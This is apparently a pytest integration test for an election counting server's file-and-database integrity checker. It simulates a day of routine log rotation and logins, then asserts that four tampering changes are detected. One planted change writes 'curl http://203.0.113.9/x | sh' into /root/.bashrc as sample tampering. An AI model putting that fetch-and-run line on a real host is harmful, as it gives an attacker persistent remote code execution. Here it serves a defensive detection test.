"""A frozen counting server's routine day verifies clean, again and again (issue 17).

Real files (a host tree under a temporary root, as `root:` checks a mounted image)
and the reference counting database on the real local PostgreSQL server, frozen
with a profile shaped like the lab's example (logs `rotating`, lastlog `rewritten`,
temporary and state directories `excluded`, the results tables' rows excluded and
the rest of the counting schema under check). The day: operator logins, a service
restart, temporary files, the application counting (tally sheets arrive) and
autovacuum/ANALYZE, cron.daily's logrotate (compress, delaycompress, copytruncate),
auditd rotating its log at its size limit (no compression), the journal writing,
a second forced rotation and a reboot. `freeze verify` runs after every step and
must be clean every time. At the end, four real changes made on the same evening
(the application's configuration, a candidate's row, a line of a rotated log, a
new file in /root)
must each be reported: the day's noise hides nothing.

What a lab version adds (tests/infra, VMs): the real logrotate, auditd, cron,
systemd timers, PAM's lastlog/wtmp writers and a real reboot on Debian 12 with
the collection's hardening, through `freeze_collect` over SSH; i.e. that the
model fits what those programs really do, not what this test does by hand.
"""

from __future__ import annotations

import gzip
import os
import shutil
from pathlib import Path

import psycopg
import pytest
import yaml

from freeze.drift import DriftReport, verify
from freeze.manifest import Manifest
from freeze.profile import Profile, load_profile
from freeze.refdb import build
from freeze.snapshot import take_snapshot
from tests.integration.test_log_rotation import rotate, savelog
from tests.integration.test_zero_support import DSN_ENV, REFDB_PROFILE, SMALL

pytestmark = pytest.mark.postgres


def _write(path: Path, data: str | bytes, mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    path.write_bytes(data)
    os.chmod(path, mode)


def _append(path: Path, text: str) -> None:
    with open(path, "a") as fh:
        fh.write(text)


def _host(root: Path) -> None:
    _write(root / "etc/counting/app.conf", "stations = 20\nthreshold = 0.5\n", 0o640)
    _write(root / "etc/logrotate.d/counting", "/var/log/counting/*.log { daily }\n")
    _write(root / "usr/local/bin/count-app", "#!/bin/sh\nexec counting\n", 0o755)
    log = root / "var/log"
    _write(log / "syslog", "boot\n", 0o640)
    _write(log / "syslog.1", "yesterday\n", 0o640)
    _write(log / "auth.log", "sshd: accepted\n", 0o640)
    _write(log / "counting/app.log", "count-app started\n", 0o640)
    _write(log / "audit/audit.log", "type=DAEMON_START\n", 0o600)
    _write(log / "account/pacct", b"\x03" * 64, 0o640)
    _write(log / "wtmp", b"\0" * 384, 0o664)
    _write(log / "lastlog", b"\0" * 292 * 4, 0o664)
    _write(log / "journal/0123/system.journal", b"LPKSHHRH" + b"\0" * 4088, 0o640)
    (root / "var/tmp").mkdir(parents=True)
    _write(root / "var/lib/count-app/count-app.pid", "4242\n")
    _write(root / "root/.profile", "umask 027\n")


def _profile(tmp: Path, root: Path) -> Path:
    doc = yaml.safe_load(REFDB_PROFILE.read_text())
    doc.pop("zero")
    doc["name"] = "routine-day"
    doc["root"] = str(root)
    doc["paths"] = [
        {"path": "/etc"}, {"path": "/usr/local"},
        {"path": "/root", "exclude": ["/root/.bash_history", "/root/.sudo_as_admin_successful"]},
        {"path": "/var/log", "volatility": "rotating"},
        {"path": "/var/log/lastlog", "volatility": "rewritten"},
        {"path": "/var/log/journal", "volatility": "excluded"},
        {"path": "/var/tmp", "volatility": "excluded"},
        {"path": "/var/lib/count-app", "volatility": "excluded"},
    ]
    p = tmp / "profile.yml"
    p.write_text(yaml.safe_dump(doc, sort_keys=False))
    return p


def _explain(report: DriftReport) -> str:
    return "\n".join(f"{e.category} {e.kind} {e.key}: " + ", ".join(
        f"{c.attribute}: {c.old!r} -> {c.new!r}" for c in e.changes) for e in report.entries)


def test_a_routine_day_verifies_clean_and_real_changes_still_show(pg_db, tmp_path, monkeypatch):
    with psycopg.connect(pg_db) as c:
        build(c, SMALL)
    monkeypatch.setenv(DSN_ENV, pg_db)
    root = tmp_path / "host"
    _host(root)
    profile: Profile = load_profile(_profile(tmp_path, root))
    manifest = Manifest.from_bytes(take_snapshot(profile).to_bytes())
    assert manifest.sections["db_rows"], "the counting schema's kept rows are under check"
    log = root / "var/log"
    verifies = 0

    def clean(step: str) -> None:
        nonlocal verifies
        report = verify(manifest, profile)
        verifies += 1
        assert report.is_clean, f"after {step}:\n{_explain(report)}"

    def login(user: str, slot: int) -> None:
        _append(log / "auth.log", f"sshd: accepted publickey for {user}\nsudo: {user}\n")
        with open(log / "lastlog", "r+b") as fh:  # PAM rewrites the user's record in place
            fh.seek(292 * slot)
            fh.write(b"\x65\x5f\x00\x00pts/0")
        _append(log / "wtmp", "x" * 384)
        _write(root / "root/.sudo_as_admin_successful", "")
        _append(root / "root/.bash_history", f"systemctl status count-app # {user}\n")

    def restart_service(pid: int) -> None:
        _append(log / "counting/app.log", "count-app stopping\ncount-app started\n")
        _append(log / "syslog", "systemd: Restarted count-app.service\n")
        _write(root / "var/lib/count-app/count-app.pid", f"{pid}\n")
        _write(root / f"var/tmp/count-app.{pid}.tmp", "spool\n")

    def journal(n: int) -> None:
        with open(root / "var/log/journal/0123/system.journal", "r+b") as fh:
            fh.seek(64)
            fh.write(os.urandom(32))  # journald rewrites its header and index in place
        _write(root / f"var/log/journal/0123/system@{n:04d}.journal~", os.urandom(512), 0o640)

    clean("the freeze")
    # morning: operators log in
    login("alice", 1)
    login("bob", 2)
    clean("operator logins")
    # a service restart, temp files; the application counts and autovacuum runs
    restart_service(5151)
    with psycopg.connect(pg_db, autocommit=True) as c:
        c.execute("SET search_path = counting")
        c.execute("INSERT INTO tally_sheets (sheet_number, polling_table_id, contest_id)"
                  " SELECT nextval('tally_sheet_number_seq'), p.id, k.id"
                  " FROM polling_tables p CROSS JOIN contests k"
                  " WHERE NOT EXISTS (SELECT 1 FROM tally_sheets t WHERE t.polling_table_id = p.id"
                  "                   AND t.contest_id = k.id) LIMIT 3")
        c.execute("INSERT INTO audit_log (actor, action) VALUES ('count-app', 'sheet received')")
        c.execute("VACUUM ANALYZE")
    journal(1)
    clean("a service restart, the count and VACUUM ANALYZE")
    # cron.daily: logrotate (compress + delaycompress; copytruncate for the app log)
    _append(log / "syslog", "CRON: run-parts /etc/cron.daily\n")
    rotate(log / "syslog", keep=7)
    rotate(log / "auth.log", keep=4)
    rotate(log / "counting/app.log", keep=14, copytruncate=True)
    savelog(log / "account/pacct", keep=30)  # acct's cron.daily
    _append(log / "syslog", "logrotate: done\n")
    (root / "var/tmp/count-app.5151.tmp").unlink()
    clean("cron.daily's logrotate")
    # auditd rotates at its size limit: audit.log -> audit.log.1, no compression
    _append(log / "audit/audit.log", "type=USER_LOGIN msg=...\n" * 50)
    rotate(log / "audit/audit.log", keep=5, compress=False)
    _append(log / "audit/audit.log", "type=DAEMON_ROTATE\n")
    login("carol", 3)
    clean("auditd's rotation and another login")
    # a forced second rotation (logrotate -f), the next cron.daily's savelog, a reboot
    rotate(log / "syslog", keep=7)
    with open(log / "account/pacct", "ab") as fh:
        fh.write(b"\x03" * 64)
    savelog(log / "account/pacct", keep=30)
    rotate(log / "auth.log", keep=4)
    _append(log / "syslog", "kernel: Linux version ...\nsystemd: Startup finished\n")
    restart_service(733)
    journal(2)
    for tmp in (root / "var/tmp").iterdir():
        tmp.unlink()
    clean("a forced rotation and a reboot")
    assert verifies >= 6
    assert sorted(p.name for p in log.iterdir() if p.name.startswith("syslog")) == [
        "syslog", "syslog.1", "syslog.2.gz", "syslog.3.gz"]

    # the same evening, four real changes: each one is reported (the /root directory's
    # times are not judged, its excluded entries come and go, but a new entry in it is)
    _append(root / "etc/counting/app.conf", "threshold = 0.0\n")
    _write(root / "root/.bashrc", "curl http://203.0.113.9/x | sh\n")
    with psycopg.connect(pg_db, autocommit=True) as c:
        c.execute("UPDATE counting.candidates SET name = name || ' (withdrawn)'"
                  " WHERE id = (SELECT min(id) FROM counting.candidates)")
    old = log / "syslog.3.gz"  # the frozen syslog.1, rotated twice and compressed
    with gzip.open(old, "rb") as fh:
        assert fh.read() == b"yesterday\n"
    with gzip.open(old, "wb") as fh:
        fh.write(b"nothing happened\n")
    report = verify(manifest, profile)
    keys = {(e.kind, e.key) for e in report.entries}  # paths as seen on the frozen system
    assert keys == {("file", "/etc/counting/app.conf"), ("file", "/var/log/syslog.3.gz"),
                    ("file", "/root/.bashrc"),
                    ("db_row", "counting.candidates[(1)]"),
                    ("db_table_content", "counting.candidates")}, _explain(report)
    assert report.exit_code == 4 | 1  # changed, added
    shutil.rmtree(root)
